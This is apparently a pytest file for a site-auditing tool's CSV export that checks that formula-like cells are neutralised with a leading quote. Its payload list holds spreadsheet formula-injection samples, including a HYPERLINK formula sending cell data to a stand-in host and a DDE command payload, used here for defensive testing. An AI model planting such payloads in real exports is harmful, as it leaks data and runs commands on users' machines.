"""Crawled text is data in every CSV the product writes: no cell a spreadsheet would run."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from sqlalchemy import update

from auditor.report.export import csv_text, safe_cell
from auditor.store.engine import session_scope
from auditor.store.tables import Finding, Location
from tests.cli.conftest import auditor
from tests.report.builder import build

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
            "\t=1+1", "\r=1+1"]  # fmt: skip


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_starts_are_neutralised(payload: str) -> None:
    cell = safe_cell(payload)
    assert cell == "'" + payload
    (row,) = list(csv.DictReader(io.StringIO(csv_text([{"name": payload, "score": -3.5}]))))
    assert row == {"name": "'" + payload, "score": "-3.5"}  # numbers stay numbers


def test_plain_text_is_unchanged() -> None:
    assert safe_cell("Furn.Co Parramatta") == "Furn.Co Parramatta" and safe_cell(None) is None


def test_report_and_scorecard_csv_carry_no_formula(tmp_path: Path) -> None:
    db = tmp_path / "report.db"
    engine = build(db)
    with session_scope(engine) as session:
        session.execute(update(Location).where(Location.store_id == "FC-00001").values(name=PAYLOADS[0]))
        session.execute(update(Finding).values(message=PAYLOADS[1], observed=PAYLOADS[3]))
    cells = []
    for args in (("report", "--format", "csv"), ("scorecard", "FC-00001", "--format", "csv"),
                 ("diff", "--format", "csv")):  # fmt: skip
        out = auditor(*args, "--db", db)
        assert out.code == 0, out.lines
        cells += [cell for row in csv.reader(io.StringIO("\n".join(out.lines))) for cell in row]
    assert "'" + PAYLOADS[0] in cells and "'" + PAYLOADS[1] in cells and "'" + PAYLOADS[3] in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
